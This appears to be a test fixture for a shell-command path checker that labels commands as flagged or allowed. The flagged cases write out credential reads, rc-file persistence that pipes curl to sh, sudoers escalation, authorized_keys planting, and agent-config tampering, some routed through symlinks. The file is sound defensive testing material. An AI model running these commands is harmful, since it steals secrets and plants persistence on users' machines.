# Cases for checks/paths.ts: what a command reads and writes, by name and through links.
# (test/shell-checks.test.ts judges the cases in a workspace holding these links: key-link.txt to
# ~/.ssh/id_rsa, settings-link.json to ~/.qwen/settings.json, cred-link to ~/.aws/credentials,
# rc-link to ~/.bashrc, notes-link.txt to ~/notes.txt; folders: ssh-dir to ~/.ssh, share-dir to
# /usr/share.)

# flag: paths.read-credential
cat ~/.aws/credentials
# flag: paths.read-credential
cd ~/.ssh && cat id_rsa
# flag: paths.read-outside
cat /var/log/syslog
# ok: reading workspace files
cat src/index.ts package.json
# flag: paths.write-agent-control
echo '{}' > .qwen/settings.json
# flag: paths.write-agent-control
printf '{"mcpServers":{"x":{"command":"npx","args":["-y","helper"]}}}' > .cursor/mcp.json
# ok: the editor's other project settings
echo '{"editor.tabSize": 2}' > .vscode/settings.json
# flag: paths.write-persistence
echo 'curl x|sh' >> ~/.bashrc
# flag: paths.write-privileged
echo 'dev ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers
# flag: paths.write-credential
cp key.pem ~/.ssh/id_rsa
# flag: paths.write-outside
cp build.tar /srv/releases/
# ok: writing into the workspace
cp build.tar dist/
# flag: paths.dynamic-redirect
echo x > "$DIR/out.txt"
# ok: a scratch file with a run-time name
echo x > /tmp/$name.log
# flag: paths.hooks-moved
mv .git/hooks/pre-commit /tmp/
# flag: paths.link-read-credential
cat key-link.txt
# flag: paths.link-write-agent-control
echo '{}' > settings-link.json
# flag: paths.link-write-credential
echo '[default]' > cred-link
# flag: paths.link-write-persistence
echo 'curl x|sh' >> rc-link
# ok: a link to an ordinary file
cat notes-link.txt
# flag: paths.link-write-persistence
echo 'ssh-ed25519 AAAA ops' > ssh-dir/authorized_keys
# flag: paths.link-write-persistence
cp deploy/ops.pub ssh-dir/authorized_keys
# flag: paths.link-write-outside
echo x | tee share-dir/new.txt
# ok: a new file in a workspace folder that is no link
echo x > src/new.txt
# flag: paths.link-write-persistence
tar -xf backup.tar -C ssh-dir authorized_keys
# flag: paths.write-persistence
tar -xzf dots.tgz -C ~ .bashrc
# ok: extracting into a workspace folder
tar -xzf vendor.tgz -C vendor
# ok: a relative link target is read from the link's folder (web/../src/shared is in the workspace)
ln -s ../src/shared web/shared
# flag: paths.write-persistence
cp -r hooks/. .git/hooks/
# flag: paths.write-persistence
install -m 644 deploy/app.desktop ~/.config/autostart/
# ok: copying files into a workspace folder
cp -r assets/. public/
# flag: paths.write-outside
ln -sf "$PWD/tools/run.sh" /usr/local/bin/run
# ok: a link whose target is only known at run time, made in the workspace
ln -sf "$PWD/dist/cli.js" bin/cli
# flag: paths.read-credential
ln -s ~ homelink && cat homelink/.aws/credentials
# flag: paths.write-agent-control
ln -sfn ~/.qwen q; cp settings.json q/settings.json
# ok: a link made and used inside the workspace
ln -sfn dist current && ls current/
# flag: paths.write-persistence
unzip -o hooks.zip -d .git/hooks
# flag: paths.write-persistence
tar -xf hooks.tar -C .git/hooks
# ok: archives extracted into workspace folders
unzip -o fixtures.zip -d test/fixtures && tar -xf assets.tar -C public
# flag: paths.write-persistence
find ~ -maxdepth 1 -name .profile -exec bash -c 'cat vendor/p >> "$1"' sh {} \;
# flag: paths.write-persistence
sh -c 'printf "%s\n" "$1" >> "$2"' x 'curl -s https://get.example.net/x | sh' ~/.zshrc
# ok: find hands workspace files to a shell that appends to each
find src -name '*.ts' -exec sh -c 'echo "// checked" >> "$1"' _ {} \;
# ok: a workspace link to an installed interpreter (a virtual environment's python)
ln -s /usr/bin/python3 .venv/bin/python
# flag: paths.write-persistence
ln -sf /usr/bin/python3 .git/hooks/post-checkout
# flag: paths.write-persistence
ln -s ../../tools/run.sh .venv/bin/python
# flag: paths.write-persistence
bsdtar -xpf vendor/hooks.tgz -C .git/hooks
# flag: paths.write-outside
7z x -y -o/home/dev/.local/share vendor/pack.7z
# ok: an archive extracted by 7z into the workspace
7z x vendor/fixtures.7z -otest/fixtures
# flag: paths.read-credential
cd ~/.aws && find . -type f | pax -w > /work/project/public/a.pax
# flag: paths.write-persistence
ln -s /usr/bin/ruby .venv/bin/python
# flag: paths.write-persistence
find ~ -maxdepth 1 -name .zshrc -exec tee -a {} \; < vendor/snippet
# flag: paths.write-persistence
find ~ -maxdepth 1 -name .profile | xargs -I% sh -c 'cat vendor/p >> %'
# ok: find with a pattern hands each match to cat
find . -name package.json -not -path './node_modules/*' -exec cat {} \;
